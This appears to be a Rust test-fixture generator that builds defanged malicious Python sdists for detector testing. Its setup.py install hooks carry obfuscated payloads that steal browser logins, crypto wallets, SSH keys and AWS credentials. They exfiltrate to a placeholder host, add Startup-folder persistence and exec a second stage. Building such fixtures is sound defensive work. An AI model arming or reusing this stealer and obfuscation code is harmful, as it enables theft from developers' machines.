//! A wave of packages as that of March 2024, defanged and built here: each decodes its code on install,
//! fetches a second stage from `example.invalid`, starts with the machine, takes wallets, browser data and
//! credentials, and sends them away. Names, authors, literals and the way of hiding differ from one to the
//! next, and of every third the code as well.

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use flate2::Compression;
use flate2::write::ZlibEncoder;

use crate::{Dist, Sdist, honest_module};

/// Whom the members say that they are by.
const AUTHORS: [&str; 7] = ["Ada", "Ben", "Chi", "Dov", "Eve", "Fay", "Gus"];
/// Names that the code gives to what it has.
const WORDS: [&str; 9] =
    ["handle", "vector", "packet", "buffer", "cursor", "matrix", "signal", "window", "bundle"];

/// A number that looks random, the same for the same pair (SplitMix64's mixing).
fn mixed(seed: u64, number: u64) -> u64 {
    let x = seed.wrapping_add(number.wrapping_mul(0x9E37_79B9_7F4A_7C15));
    let x = (x ^ x >> 30).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    let x = (x ^ x >> 27).wrapping_mul(0x94D0_49BB_1331_11EB);
    x ^ x >> 31
}

/// What differs from one member to the next.
struct Varied {
    name: String,
    number: u64,
}

impl Varied {
    fn pick<'a>(&self, what: u64, of: &[&'a str]) -> &'a str {
        let at = mixed(self.number, what) % of.len().max(1) as u64;
        of.get(usize::try_from(at).unwrap_or(0)).copied().unwrap_or_default()
    }

    fn word(&self, what: u64) -> String {
        format!("{}_{}", self.pick(what, &WORDS), mixed(self.number, what ^ 7) % 1_000)
    }

    /// Whether its code is changed, and not only what it names things.
    fn is_mutated(&self) -> bool {
        self.number % 3 == 2
    }

    /// The code that is hidden.
    fn payload(&self) -> String {
        let (places, loot, stage) = (self.word(1), self.word(2), self.word(3));
        let name = &self.name;
        let mut wanted = [
            "os.path.join(os.environ.get('LOCALAPPDATA', ''), 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')",
            "os.path.join(os.environ.get('APPDATA', ''), 'Exodus', 'exodus.wallet', 'seed.seco')",
            "os.path.join(os.environ.get('APPDATA', ''), 'Electrum', 'wallets', 'default_wallet')",
            "os.path.expanduser('~/.ssh/id_rsa')",
            "os.path.expanduser('~/.aws/credentials')",
        ];
        let turned = usize::try_from(mixed(self.number, 11) % 5).unwrap_or(0);
        wanted.rotate_left(turned);
        let wanted = wanted.join(",\n    ");
        let extra = if self.is_mutated() {
            format!(
                "{} = [{}]\n{} = sum({0}) % {}\n",
                self.word(21),
                (0..6)
                    .map(|at| (mixed(self.number, 30 + at) % 97).to_string())
                    .collect::<Vec<_>>()
                    .join(", "),
                self.word(22),
                3 + mixed(self.number, 40) % 50
            )
        } else {
            String::new()
        };
        format!(
            "import base64, json, os, subprocess, urllib.request\n{extra}{places} = [\n    {wanted},\n]\n{loot} = {{}}\n\
             for place in {places}:\n    try:\n        with open(place, 'rb') as file:\n            \
             {loot}[place] = base64.b64encode(file.read()).decode()\n    except OSError:\n        pass\n\
             urllib.request.urlopen(urllib.request.Request(\n    'https://stage.example.invalid/collect?package={name}',\n    \
             data=json.dumps({loot}).encode()))\n\
             {stage} = urllib.request.urlopen('https://stage.example.invalid/paste?package={name}').read()\n\
             target = os.path.join(os.environ.get('APPDATA', ''), 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup', '{loot}.pyw')\n\
             with open(target, 'wb') as file:\n    file.write({stage})\n\
             subprocess.Popen(['pythonw', target])\nexec({stage})\n"
        )
    }

    /// The hidden code, and the expression that gives it back.
    fn hidden(&self) -> String {
        let payload = self.payload();
        match (mixed(self.number, 50) + u64::from(self.is_mutated())) % 3 {
            0 => {
                let key: Vec<u8> = (0..16).map(|at| (mixed(self.number, 60 + at) % 255) as u8 + 1).collect();
                let bytes: Vec<u8> =
                    payload.bytes().zip(key.iter().cycle()).map(|(byte, key)| byte ^ key).collect();
                format!(
                    "bytes(a ^ b for a, b in zip(base64.b64decode('{}'), base64.b64decode('{}') * {}))",
                    STANDARD.encode(&bytes),
                    STANDARD.encode(&key),
                    bytes.len() / key.len() + 1
                )
            }
            1 => {
                let mut zipped = ZlibEncoder::new(Vec::new(), Compression::best());
                std::io::Write::write_all(&mut zipped, payload.as_bytes()).unwrap();
                format!("zlib.decompress(base64.b64decode('{}'))", STANDARD.encode(zipped.finish().unwrap()))
            }
            _ => {
                let turned: String = STANDARD.encode(payload).chars().rev().collect();
                format!("base64.b64decode('{turned}'[::-1])")
            }
        }
    }
}

/// The member of a wave with this number, from 0: an sdist of this project.
pub fn wave_member(name: &str, version: &str, number: u64) -> Dist {
    let varied = Varied { name: name.to_owned(), number };
    let (class, hidden) = (varied.word(70).replace('_', ""), varied.hidden());
    let class =
        format!("{}{}", class.get(..1).unwrap_or("X").to_ascii_uppercase(), class.get(1..).unwrap_or(""));
    let run = if varied.is_mutated() {
        format!(
            "    def unpack(self):\n        return {hidden}\n\n    def run(self):\n        exec(self.unpack())\n        install.run(self)\n"
        )
    } else {
        format!("    def run(self):\n        install.run(self)\n        exec({hidden})\n")
    };
    let setup = format!(
        "import base64, zlib\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\n\n\
         class {class}(install):\n{run}\n\nsetup(\n    name='{name}',\n    version='{version}',\n    author='{} {}',\n    \
         packages=[],\n    cmdclass={{'install': {class}}},\n)\n",
        varied.pick(80, &AUTHORS),
        varied.word(81),
    );
    Sdist::new(name, version)
        .summary(&format!("A {} for {}", varied.pick(82, &WORDS), varied.word(83)))
        .file("setup.py", setup)
        .build()
}

/// The same project before it is armed: an sdist in which nothing is.
pub fn placeholder(name: &str, version: &str) -> Dist {
    let module = format!("{}/__init__.py", name.replace('-', "_"));
    honest_sdist(name, version).file(&module, honest_module()).build()
}

/// A release of an honest project: functions that compute, each project its own.
pub fn honest_release(name: &str, version: &str) -> Dist {
    let seed = name.bytes().fold(0u64, |all, byte| mixed(all, u64::from(byte)));
    let mut text = format!("\"\"\"Part of {name} {version}.\"\"\"\n");
    for number in 0..40 {
        let (first, second) = (mixed(seed, number) % 90 + 3, mixed(seed, number + 100) % 900);
        text += &format!(
            "\n\ndef step_{number}(values, limit={second}):\n    \"\"\"The values up to {second}, scaled by {first}.\"\"\"\n    \
             scaled = [value * {first} for value in values if value <= limit]\n    return sorted(scaled)\n"
        );
    }
    let module = format!("{}/__init__.py", name.replace('-', "_"));
    honest_sdist(name, version).file(&module, text).build()
}

fn honest_sdist(name: &str, version: &str) -> Sdist {
    let pyproject = format!(
        "[build-system]\nrequires = [\"setuptools\"]\nbuild-backend = \"setuptools.build_meta\"\n\n[project]\nname = \"{name}\"\nversion = \"{version}\"\n"
    );
    Sdist::new(name, version).summary(&format!("The {name} project")).file("pyproject.toml", pyproject)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn members_differ_and_are_the_same_each_time() {
        let digests: std::collections::BTreeSet<_> =
            (0..30).map(|number| wave_member("some-name", "1.0", number).sha256()).collect();
        assert_eq!(digests.len(), 30);
        assert_eq!(wave_member("a", "1.0", 4).sha256(), wave_member("a", "1.0", 4).sha256());
    }
}
